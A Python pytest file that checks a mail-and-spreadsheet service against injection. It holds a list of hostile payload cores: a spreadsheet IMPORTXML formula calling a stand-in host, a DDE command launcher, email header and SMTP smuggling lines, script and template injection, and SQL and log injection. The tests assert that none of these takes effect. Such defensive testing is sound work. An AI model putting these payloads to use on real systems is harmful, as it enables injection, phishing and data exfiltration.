"""Faults 31 to 33: five thousand hostile texts through every way that text takes out of the service.

Each payload is a core that does harm somewhere, wrapped in what slips past careless filters. Calendar files are held
against any text in `tests/connectors/local/test_files.py`.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from email.message import EmailMessage
from email.utils import getaddresses
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from zipfile import ZipFile

import pytest

from connectors.local.suite import open_suite
from connectors.mime import compose
from service.delivery.mail_page import lay_out
from tests.connectors.contracts import MAIL, PAIRS, PEOPLE, person
from tests.connectors.google.conftest import house
from tests.connectors.google.test_tables import people, ready
from tests.emulators.google.gmail_model import parse
from tests.emulators.google.school import School
from tests.emulators.google.sheets_model import Formula
from tests.emulators.google.world import ROBOT
from tests.faults.village import MINUTE, Villages, application, concern
from tests.service.delivery.test_mail_page import ADDRESSES, PROGRAMME
from tests.service.engine_school import mail
from workflows.effects import Recipient
from workflows.text.blocks import FormLink, Heading, Items, Paragraph, Table

__all__ = ["house"]

pytestmark = pytest.mark.slow
CANARY = "canary7f3a"
CORES = (
    *(f'=IMPORTXML("https://x.example/{CANARY}","//a")', f"=HYPERLINK({CANARY})", f"+{CANARY}", f"-2+3+{CANARY}"),
    *(f"@SUM(1)*{CANARY}", f"=cmd|' /C calc'!{CANARY}", f"＝1+{CANARY}", f"＋1{CANARY}", f'";=1+{CANARY}'),
    *(f"Bcc: {CANARY}@x.example", f"To: {CANARY}@x.example", f"Subject: {CANARY}", f"Content-Type: text/{CANARY}"),
    *(f".\r\nMAIL FROM:<{CANARY}@x.example>", f"<{CANARY}@x.example>, other@x.example", f"=?utf-8?q?{CANARY}?="),
    *(f"<script>{CANARY}</script>", f"<img src=x onerror={CANARY}>", f"</p></td><form action={CANARY}>"),
    *(f"[{CANARY}](javascript:alert(1))", f"{{{{ {CANARY} }}}}", f"{{% include {CANARY} %}}", f"${{{CANARY}}}"),
    *(f"<!--{CANARY}", f"&lt;b&gt;{CANARY}", f"<svg/onload={CANARY}>", f"javascript:{CANARY}", f'" onload="{CANARY}'),
    *(f"END:VEVENT\r\nATTENDEE:{CANARY}", f"level=error user={CANARY}", f'{{"level":"error","u":"{CANARY}"}}'),
    *(f"%s%n{CANARY}", f"\x1b[31m{CANARY}", f"#set({CANARY})", f"*/{CANARY}/*", f"' OR 1=1 --{CANARY}"),
)
BEFORE = ("", "\r\n", "\n", "\r", "\t", "Ada\r\n", "Ada\u2028", "Ada\x0b", "\ufeff", "Ada\x85", '"', "'")
AFTER = ("", "\r\n\r\n", "\x00")
PAYLOADS = tuple(before + core + after for before, core, after in product(BEFORE, CORES, AFTER))


def test_payloads_times_their_ways_are_five_thousand() -> None:
    assert len(PAYLOADS) * 6 > 5_000  # two sheets, two headers, a mail's page, the log


def test_fault_31_no_cell_computes(house: School) -> None:
    ready(house, *(person(f"p{n}", text) for n, text in enumerate(PAYLOADS)))
    cells = people(house).cells.values()
    assert [value for value in cells if isinstance(value, Formula)] == []
    assert sum(CANARY in str(value) for value in cells) == len(PAYLOADS)


def test_fault_31_no_cell_of_the_file_computes(tmp_path: Path) -> None:
    table = open_suite({"folder": str(tmp_path), "base_url": "https://peer.example"}).table
    table.ensure((PEOPLE, PAIRS))
    table.write([person(f"p{n}", text) for n, text in enumerate(PAYLOADS)])
    with ZipFile(next(tmp_path.rglob("*.xlsx"))) as book:
        sheets = b"".join(book.read(name) for name in book.namelist() if "sheet" in name and name.endswith(".xml"))
    assert (sheets.count(b"<f>") + sheets.count(b"<f "), sheets.count(b"<f/")) == (0, 0)


def readers(message: EmailMessage) -> list[str]:
    """Everybody whom the headers name as a reader."""
    found = (str(message[name]) for name in ("To", "Cc", "Bcc") if message[name])
    return [address for _, address in getaddresses(list(found))]


FIELDS: tuple[Callable[[str], dict[str, object]], ...] = (
    lambda text: {"subject": text},
    lambda text: {"to_name": text},
)


@pytest.mark.parametrize("field", FIELDS)
def test_fault_32_no_header_and_no_reader_is_added(field: Callable[[str], dict[str, object]]) -> None:
    plain = set(compose(MAIL, ROBOT, "Mentoring").keys())
    for text in PAYLOADS:
        raw = compose(replace(MAIL, **field(text)), ROBOT, "Mentoring").as_bytes()  # type: ignore[arg-type]  # any field
        message = parse(raw)
        assert (text, set(message.keys()) - plain) == (text, set())
        assert (text, readers(message)) == (text, [MAIL.to])


class Nodes(HTMLParser):
    """Counts elements and their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))


def nodes(text: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a mail's page that has this text everywhere."""
    blocks = (
        *(Heading(text=text), Paragraph(text=text), Items(lines=(text,))),
        *(Table(caption=text, header=(text,), rows=((text,),)), FormLink(label=text, form="consent")),
    )
    reader = Recipient(person_id="p1", address="amira@oak.example", name=text)
    counted = Nodes()
    counted.feed(lay_out(mail(blocks=blocks, to=reader, subject=text, why=text), PROGRAMME, ADDRESSES).html)
    return [node for node in counted.seen if node[0] != "br"]


def test_fault_33_no_node_is_created_in_a_mail() -> None:
    plain = nodes("Ada")
    assert [text for text in PAYLOADS if nodes(text) != plain] == []


def test_fault_33_no_line_of_the_log_has_the_text(villages: Villages, capfd: pytest.CaptureFixture[str]) -> None:
    village = villages.new()
    village.world.fail("send", ValueError(PAYLOADS[0]), ValueError(PAYLOADS[1]))
    for number, text in enumerate(PAYLOADS):
        applied = application(number, name=text, why=text, guardian_name=text)
        village.world.responses.append(applied if number % 2 else concern(number, text))
    village.live(MINUTE)
    assert len(village.world.letters) >= len(PAYLOADS) // 2
    assert CANARY not in "".join(capfd.readouterr())
